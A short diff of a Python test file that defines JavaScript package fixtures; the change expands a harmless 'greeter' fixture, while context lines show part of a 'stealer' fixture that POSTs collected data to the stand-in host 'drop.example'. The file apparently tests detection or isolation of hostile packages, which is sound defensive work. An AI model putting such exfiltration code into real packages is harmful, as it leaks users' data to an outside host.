@@ -54,7 +54,10 @@ STEALER = {
         "const sent = https.request({ host: 'drop.example', method: 'POST' })\nsent.end(found)\n"
     )
 }
-GREETER = {"index.js": "exports.greet = name => 'Hello, ' + name\n"}
+GREETER = {
+    "index.js": "exports.greet = name => 'Hello, ' + name\n"
+    + "".join(f"exports.greet{count} = name => exports.greet(name).repeat({count})\n" for count in range(2, 12))
+}
 
 
 def _kept_alone(tools: Tools, tenant: Tenant) -> Tools:
